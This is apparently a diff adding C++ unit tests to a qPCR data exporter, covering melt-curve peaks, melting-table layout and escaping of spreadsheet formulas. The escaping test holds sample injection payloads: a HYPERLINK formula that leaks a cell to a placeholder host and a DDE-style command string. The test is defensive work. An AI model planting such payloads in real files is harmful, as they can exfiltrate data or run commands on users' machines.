@@ -1,9 +1,12 @@
 #include "export/atomicsave.h"
+#include "export/excelcom.h"
+#include "export/exportcommand.h"
 #include "rdml/rdes.h"
 #include "rdml/rdml.h"
 
 #include "common/text.h"
 #include "conversion/meltcurve.h"
+#include "conversion/meltpeaks.h"
 #include "conversion/platesize.h"
 #include "conversion/programs.h"
 #include "conversion/welltable.h"
@@ -21,6 +24,7 @@
 #include <map>
 #include <regex>
 #include <set>
+#include <sstream>
 
 namespace morvane {
 namespace {
@@ -479,6 +483,56 @@ TEST(Rdes, TheTableHasARowPerWellAndChannel)
     EXPECT_EQ(table->find('\r'), std::string::npos);
 }
 
+// A spreadsheet opening the RDES table runs a cell starting with '=', '+', '@' or '-' as a
+// formula: such a text cell starts with an apostrophe. RDML and the workbook hold text as text.
+TEST(Rdes, TextThatASpreadsheetWouldRunAsAFormulaIsNot)
+{
+    const struct {
+        std::string sample;
+        std::string rdesCell;
+    } cases[] = {
+        {R"(=HYPERLINK("http://x.example/?leak="&A2, "click"))",
+         R"('=HYPERLINK("http://x.example/?leak="&A2, "click"))"},
+        {"=1+1", "'=1+1"},
+        {"+2+3", "'+2+3"},
+        {"@SUM(1)", "'@SUM(1)"},
+        {"-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"},
+        {"-", "'-"},
+        {"-12.5", "-12.5"},
+        {"a=b", "a=b"},
+        {"Sample 2", "Sample 2"},
+    };
+    for (const auto& c : cases) {
+        Grid table(2, 3, 1, 1);
+        table.setCell(0, 2, "1");
+        table.setCell(1, 0, "A1");
+        table.setCell(1, 1, " " + c.sample);
+        table.setCell(1, 2, "0.5");
+        const RdmlContent content{"Run", "2", PlateFormat::Wells96, {"=465-510"}, {&table}, {}, nullptr};
+        const auto rdes = rdesTable(content);
+        ASSERT_TRUE(rdes.ok()) << rdes.error().message;
+        const std::string row = rdes->substr(rdes->find('\n') + 1);
+        EXPECT_EQ(row, "A1\t" + c.rdesCell + "\tunkn\t'=465-510\ttoi\t'=465-510\t\t0.5\n") << c.sample;
+
+        const auto xml = rdmlXml(content);
+        ASSERT_TRUE(xml.ok()) << xml.error().message;
+        EXPECT_EQ(readBack(*xml).sampleOfReact.at(1), c.sample);
+
+        xlsxtest::TempDir dir;
+        TExcelcom excel(dir.path / "book.xlsx");
+        ASSERT_TRUE(exportGridToWorkbook(excel, table, "Run", '.').ok());
+        const std::string workbook = xlsxtest::readFile(dir.path / "book.xlsx");
+        const std::string sheet = xlsxtest::part(workbook, "xl/worksheets/sheet1.xml");
+        EXPECT_EQ(sheet.find("<f"), std::string::npos) << c.sample;
+        if (c.sample == "-12.5")
+            continue; // a number, and written as one
+        EXPECT_NE(sheet.find(R"(<c r="B2" s="1" t="s"><v>1</v></c>)"), std::string::npos) << sheet;
+        pugi::xml_document strings;
+        ASSERT_TRUE(strings.load_string(xlsxtest::part(workbook, "xl/sharedStrings.xml").c_str()));
+        EXPECT_EQ(strings.child("sst").last_child().child("t").text().get(), " " + c.sample);
+    }
+}
+
 TEST(RdmlSave, ANewFileIsWrittenAndAnExistingOneRefusedUnlessReplaced)
 {
     xlsxtest::TempDir dir;
@@ -541,6 +595,85 @@ TEST(RdmlSave, AFailureLeavesNoFileAndNoTemporaryFile)
     EXPECT_EQ(taken.error().message, "'run.tsv' already exists");
     EXPECT_EQ(xlsxtest::readFile(file), "someone else's");
     EXPECT_EQ(dir.files(), (std::vector<std::string>{"run.tsv"}));
+}
+
+TEST(RdmlMelt, EachReactionsMeltTempIsItsMainPeak)
+{
+    const ConvertedChannels converted = convertFile("lc480_384_nrd1_calibration.txt");
+    ASSERT_TRUE(converted.melt);
+    const auto xml = rdmlXml(rdmlContent(converted));
+    ASSERT_TRUE(xml.ok());
+    std::vector<std::string> expected;
+    for (const WellMelt& well : analyseMeltCurves(*converted.melt, 0))
+        if (!well.analysis.peaks.empty())
+            expected.push_back(meltTemperatureText(well.analysis.peaks.front().temperature));
+    std::vector<std::string> written;
+    const std::regex meltTemp("<meltTemp>([^<]*)</meltTemp>");
+    for (auto it = std::sregex_iterator(xml->begin(), xml->end(), meltTemp); it != std::sregex_iterator(); ++it)
+        written.push_back((*it)[1]);
+    EXPECT_GT(expected.size(), 250u);
+    EXPECT_EQ(written, expected); // in well order, one per reaction that has a peak
+    // Where the schema puts it: after the target, before the points.
+    EXPECT_NE(xml->find("<react id=\"1\">\n<sample id=\"Sample 1\"/>\n<data>\n<tar id=\"483-533\"/>\n"
+                        "<meltTemp>78.63</meltTemp>\n<adp>"),
+              std::string::npos);
+}
+
+// Two wells read at partly different temperatures, one written with a comma: a column for every
+// temperature, a reading under its own, an empty cell where a well has none.
+TEST(RdesMelt, TheMeltingTableHasAColumnPerTemperature)
+{
+    Grid table(3, 3, 1, 1);
+    const std::vector<std::vector<std::string>> cells = {
+        {"well", "sample", "1"}, {"A1", " S1", "1.5"}, {"A2", " S2", "2.5"}};
+    for (int r = 0; r < 3; ++r)
+        for (int c = 0; c < 3; ++c)
+            table.setCell(r, c, cells[static_cast<std::size_t>(r)][static_cast<std::size_t>(c)]);
+    MeltCurves melt;
+    melt.channels = {"465-510"};
+    melt.wells = {{"A1", {"60,5", "61.0"}, {"1", "2"}}, {"A2", {"61.00", "62.5"}, {"3", "4,5"}}};
+    RdmlContent content;
+    content.channels = {"465-510"};
+    content.tables = {&table};
+    content.melt = &melt;
+    RdmlSummary summary;
+    const auto written = rdesMeltTable(content, &summary);
+    ASSERT_TRUE(written.ok()) << describe(written.error());
+    EXPECT_EQ(*written, "Well\tSample\tSample Type\tTarget\tTarget Type\tDye\tTm\t60.5\t61.0\t62.5\n"
+                        "A1\tS1\tunkn\t465-510\ttoi\t465-510\t\t1\t2\t\n"
+                        "A2\tS2\tunkn\t465-510\ttoi\t465-510\t\t\t3\t4.5\n");
+    EXPECT_EQ(summary.meltPoints, 4u);
+
+    content.melt = nullptr;
+    EXPECT_EQ(*rdesMeltTable(content), "Well\tSample\tSample Type\tTarget\tTarget Type\tDye\tTm\n");
+    EXPECT_EQ(meltingTablePath("out/run.tsv"), fs::path("out/run_melting.tsv"));
+    EXPECT_EQ(meltingTablePath("run.TSV"), fs::path("run_melting.TSV"));
+}
+
+TEST(RdesMelt, TheRealPlatesTableHoldsEveryReadingAndThePeaks)
+{
+    const ConvertedChannels converted = convertFile("lc480_384_nrd1_calibration.txt");
+    const auto written = rdesMeltTable(rdmlContent(converted));
+    ASSERT_TRUE(written.ok());
+    std::istringstream lines(*written);
+    std::string line;
+    std::getline(lines, line);
+    EXPECT_EQ(std::count(line.begin(), line.end(), '\t'), 6 + 176);
+    const std::vector<WellMelt> peaks = analyseMeltCurves(*converted.melt, 0);
+    std::size_t row = 0;
+    for (; std::getline(lines, line); ++row) {
+        ASSERT_LT(row, peaks.size());
+        std::vector<std::string> cells;
+        std::istringstream fields(line);
+        for (std::string cell; std::getline(fields, cell, '\t');)
+            cells.push_back(cell);
+        ASSERT_EQ(cells.size(), 7u + 176u) << line.substr(0, 40);
+        EXPECT_EQ(cells[0], peaks[row].well);
+        EXPECT_EQ(cells[6], meltPeaksText(peaks[row].analysis.peaks));
+        // The columns rise; every well of this plate was read at all 176 temperatures.
+        EXPECT_EQ(std::count(cells.begin() + 7, cells.end(), ""), 0) << cells[0];
+    }
+    EXPECT_EQ(row, 384u);
 }
 
 } // namespace
